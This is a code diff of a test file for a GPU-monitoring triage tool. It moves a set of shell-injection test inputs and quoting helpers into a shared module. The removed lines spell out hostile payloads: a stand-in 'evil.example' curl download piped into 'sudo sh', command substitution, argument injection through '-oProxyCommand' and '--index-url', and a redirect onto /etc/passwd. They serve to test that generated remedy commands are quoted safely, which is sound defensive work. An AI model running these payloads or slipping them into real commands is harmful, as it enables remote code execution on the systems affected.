@@ -19,43 +19,14 @@ from gpumon.triage.copyable import _TEMPLATES, to_copy
 from gpumon.triage.render import ACTION_WORDS, action_text
 from gpumon.triage.rules import REMEDIES
 from gpumon.triage.sentences import PEER_WORDS
+from tests.hostile_text import ATTACKS, EVIL, operators_of, without_quoted
 
-EVIL = "curl -s http://evil.example/x"
-ATTACKS = (
-    f"x86_64 x; {EVIL}|sudo sh #",
-    f"7; {EVIL} | sh",
-    f"$({EVIL})",
-    f"`{EVIL}`",
-    f"x && {EVIL}",
-    f"x\n{EVIL}",
-    f"/tmp/a; {EVIL}",
-    f"/tmp/a'; {EVIL}; '",
-    f"journalctl -u x -n 100; {EVIL}",
-    f"docker logs --tail 100 x; {EVIL}",
-    f"docker start x; {EVIL}",
-    f"http://h:8000; {EVIL}",
-    f"http://h:8000/$({EVIL})",
-    f"48; {EVIL}",
-    f"pid 48; {EVIL}",
-    f"cd /x && python -m vllm; {EVIL}",
-    "x86_64 --index-url http://evil.example",
-    "-oProxyCommand=curl",
-    "--help",
-    "> /etc/passwd",
-    "~root",
-    "x\u2028y",
-)
 NAMES = {
     *("name", "model", "models", "owner", "program", "engines", "engine", "replica", "peer", "peers", "processes"),
     *("shared", "now", "gpus", "text", "what", "free", "partly", "gpu", "backend", "replicas", "user", "where"),
     *("signals", "setting", "was", "to"),
 }
 """Parameters that are names in a sentence: none of its commands has one."""
-
-
-def operators_of(text: str) -> list[str]:
-    """What a shell would interpret in a text, outside of its quotes."""
-    return re.findall(r"&&|[;|<>`$()&\n*?~#!\\]", without_quoted(text).replace("***", ""))
 
 
 @pytest.mark.parametrize("code", sorted(set(REMEDIES) - {PEER_WORDS.code}))
@@ -66,11 +37,6 @@ def test_no_sentence_of_an_action_has_shell_text_in_a_command(code: str) -> None
         bare = without_quoted(shown)
         assert EVIL not in bare, shown
         assert "sudo sh" not in bare, shown
-
-
-def without_quoted(text: str) -> str:
-    """The text without what stands in single quotes, as `shlex.quote` writes it."""
-    return re.sub(r"'[^']*'(?:\"'\"'[^']*')*", "", text)
 
 
 @pytest.mark.parametrize("code", sorted(_TEMPLATES))
